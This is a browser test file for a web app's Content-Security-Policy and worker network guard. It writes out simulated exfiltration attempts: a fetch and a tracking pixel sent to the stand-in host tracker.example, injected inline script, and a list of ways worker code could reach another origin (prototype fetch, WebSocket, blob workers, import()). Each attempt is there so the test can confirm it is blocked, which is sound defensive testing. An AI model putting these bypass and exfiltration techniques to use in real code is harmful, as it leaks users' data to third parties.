import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Browser, Page, Worker } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { openApp, waitForServiceWorkerControl } from '../../src/cli/browser/app-driver.ts';
import { startStaticServer, type StaticServer } from '../../src/cli/serve.ts';
import { CONTENT_SECURITY_POLICY } from '../../src/worker/content-security-policy.ts';
import {
  launchChromium,
  newRecordedContext,
  reportProblemsOnFailure,
  requestsOutside,
  type RecordedContext,
} from './browser.ts';

let browser: Browser;
/** Another origin on this machine that answers anything (CORS allowed): a request it logs was sent. */
let tracker: Server;
let trackerOrigin: string;
const trackerHits: string[] = [];
/** The build served as a host without headers serves it (GitHub Pages, a plain file server). */
let plainHost: StaticServer;

beforeAll(async () => {
  browser = await launchChromium();
  tracker = createServer((req, res) => {
    trackerHits.push(req.url ?? '');
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
    res.end('export {};');
  });
  await new Promise<void>((ready) => tracker.listen(0, '127.0.0.1', ready));
  trackerOrigin = `http://127.0.0.1:${(tracker.address() as AddressInfo).port}`;
  plainHost = await startStaticServer({ root: inject('distDir'), policyHeader: false });
});
afterAll(async () => {
  await browser?.close();
  await plainHost?.close();
  await new Promise((done) => tracker?.close(done));
});

// The other tests prove the app runs with no CSP violation; this one proves the policy is in force and that those
// tests would notice a violation: a script injected into the page (say, by a compromised dependency) can neither
// phone home nor run inline code.
test('the Content-Security-Policy stops foreign requests and inline script, and violations are reported', async () => {
  const url = inject('rootUrl');
  const { context, requests, problems } = await newRecordedContext(browser);
  try {
    const page = await context.newPage();
    await openApp(page, url);
    expect(problems).toEqual([]);

    const attempts = await page.evaluate(async () => {
      const exfiltrate = await fetch('https://tracker.example/collect?ratings=1').then(
        () => 'sent',
        () => 'blocked',
      );
      const beacon = new Image();
      beacon.src = 'https://tracker.example/pixel.gif';
      const inline = document.createElement('script');
      inline.textContent = 'window.inlineScriptRan = true;';
      document.head.append(inline);
      await new Promise((done) => setTimeout(done, 200));
      return { exfiltrate, inlineRan: (window as { inlineScriptRan?: boolean }).inlineScriptRan === true };
    });

    expect(attempts).toEqual({ exfiltrate: 'blocked', inlineRan: false });
    // Chromium may report the image as a request, but CSP cancels it before it reaches the network.
    for (const request of requestsOutside(requests, url)) expect(request.failure, request.url).toMatch(/csp/i);
    const violations = problems.filter((problem) => problem.includes('CSP violation'));
    expect(violations.some((v) => v.includes('connect-src'))).toBe(true);
    expect(violations.some((v) => v.includes('img-src'))).toBe(true);
    expect(violations.some((v) => v.includes('script-src'))).toBe(true);
  } finally {
    await context.close();
  }
});

test('one policy everywhere: the built meta tag and _headers file say what the server sends', () => {
  const dist = inject('distDir');
  const html = readFileSync(join(dist, 'index.html'), 'utf8');
  const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1];
  expect(meta?.replaceAll('&#39;', "'")).toBe(CONTENT_SECURITY_POLICY);
  expect(html.indexOf('http-equiv="Content-Security-Policy"')).toBeLessThan(html.indexOf('<script'));
  expect(readFileSync(join(dist, '_headers'), 'utf8')).toBe(
    `/*\n  Content-Security-Policy: ${CONTENT_SECURITY_POLICY}\n`,
  );
});

/**
 * Every way a worker's code could send a request to the tracker, tried inside `worker`, each answered 'refused'
 * or 'sent'. What was sent shows in trackerHits too: that is the ground truth.
 */
function tryToReachOut(worker: Worker, target: string): Promise<Record<string, string>> {
  return worker.evaluate(async (target) => {
    const scope = self as unknown as Record<string, unknown> & typeof globalThis;
    const tried: Record<string, string> = {};
    const attempt = async (name: string, send: () => unknown) => {
      try {
        await send();
        tried[name] = 'sent';
      } catch {
        tried[name] = 'refused';
      }
    };
    await attempt('fetch', () => fetch(`${target}/fetch`));
    await attempt('fetch from the prototype', () =>
      (Object.getPrototypeOf(scope) as typeof globalThis).fetch.call(scope, `${target}/proto`),
    );
    await attempt('WebSocket', () => new WebSocket(`${target.replace('http', 'ws')}/socket`));
    await attempt('WebSocket through its prototype', () => {
      const Original = WebSocket.prototype.constructor as typeof WebSocket;
      return new Original(`${target.replace('http', 'ws')}/socket-again`);
    });
    await attempt('EventSource', () => new EventSource(`${target}/events`));
    await attempt('Cache.add', async () => (await caches.open('probe')).add(`${target}/cache`));
    if (typeof scope.XMLHttpRequest === 'function')
      await attempt('XMLHttpRequest', () => {
        const xhr = new XMLHttpRequest();
        xhr.open('GET', `${target}/xhr`);
        xhr.send();
      });
    if (typeof scope.Worker === 'function')
      await attempt('a blob: worker', () => {
        const code = `fetch(${JSON.stringify(`${target}/blob-worker`)})`;
        return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
      });
    // Let anything that was let through reach the tracker before it is read.
    await new Promise((done) => setTimeout(done, 300));
    return tried;
  }, target);
}

/** import() of a module on the tracker from inside a module worker: what only a header policy can stop. */
function tryToImport(worker: Worker, target: string): Promise<string> {
  // As text: the test runner would rewrite an import() written in this file into its own loader.
  return worker.evaluate(`import(${JSON.stringify(`${target}/module.js`)}).then(() => 'sent', () => 'refused')`);
}

const recommender = (page: Page) => {
  const worker = page.workers().find((w) => w.url().includes('recommender.worker'));
  if (!worker) throw new Error(`no recommender worker among ${page.workers().map((w) => w.url())}`);
  return worker;
};

const ALL_REFUSED = {
  fetch: 'refused',
  'fetch from the prototype': 'refused',
  WebSocket: 'refused',
  'WebSocket through its prototype': 'refused',
  EventSource: 'refused',
  'Cache.add': 'refused',
};
const IN_THE_RECOMMENDER = { ...ALL_REFUSED, XMLHttpRequest: 'refused', 'a blob: worker': 'refused' };

describe.each([
  ['a host that sends the policy header (npm start, npm run serve, _headers)', true],
  ['a host that sends no header', false],
])('on %s, neither worker reaches another origin (issue 18, case 4)', (_host, header) => {
  let device: RecordedContext;
  let page: Page;

  beforeAll(async () => {
    device = await newRecordedContext(browser);
    page = await device.context.newPage();
    await openApp(page, header ? inject('rootUrl') : plainHost.url);
    await waitForServiceWorkerControl(page);
    trackerHits.length = 0;
  });
  afterAll(async () => {
    await device?.context.close();
  });

  test('the recommender worker: every API refuses, on the first visit and the next', async () => {
    reportProblemsOnFailure(device.problems);
    const target = `${trackerOrigin}/recommender`;
    expect(await tryToReachOut(recommender(page), target)).toEqual(IN_THE_RECOMMENDER);
    // A module's import() cannot be wrapped by a script: a header stops it, and on a host that sends none the
    // service worker's header does once it serves the worker, from the next visit. The first visit is the one
    // gap the README names.
    expect(await tryToImport(recommender(page), target)).toBe(header ? 'refused' : 'sent');
    await page.reload();
    await page.getByRole('link', { name: 'For you', exact: true }).waitFor();
    await expect.poll(() => page.workers().some((w) => w.url().includes('recommender.worker'))).toBe(true);
    expect(await tryToReachOut(recommender(page), `${target}/again`)).toEqual(IN_THE_RECOMMENDER);
    expect(await tryToImport(recommender(page), `${target}/again`)).toBe('refused');
    expect(trackerHits).toEqual(header ? [] : ['/recommender/module.js']);
  });

  test('the service worker: every API refuses', async () => {
    reportProblemsOnFailure(device.problems);
    trackerHits.length = 0;
    const [serviceWorker] = device.context.serviceWorkers();
    expect(serviceWorker?.url()).toMatch(/\/sw\.js$/);
    expect(await tryToReachOut(serviceWorker!, `${trackerOrigin}/service-worker`)).toEqual(ALL_REFUSED);
    expect(trackerHits).toEqual([]);
  });

  test('nothing of it reached the tracker, and the app itself met neither the guard nor the policy', () => {
    const sent = device.requests.filter((r) => r.url.startsWith(trackerOrigin) && r.failure === undefined);
    expect(sent.map((r) => r.url)).toEqual(header ? [] : [`${trackerOrigin}/recommender/module.js`]);
    // What the console shows is the guard (or, behind it, the policy) refusing the tries above, and nothing else.
    const tries = (p: string) => p.includes(new URL(trackerOrigin).host) || p.includes('blob:');
    expect(device.problems.filter((p) => !tries(p))).toEqual([]);
    expect(device.problems.filter((p) => p.includes("Matinee's network guard refused new WebSocket"))).toHaveLength(4);
  });
});
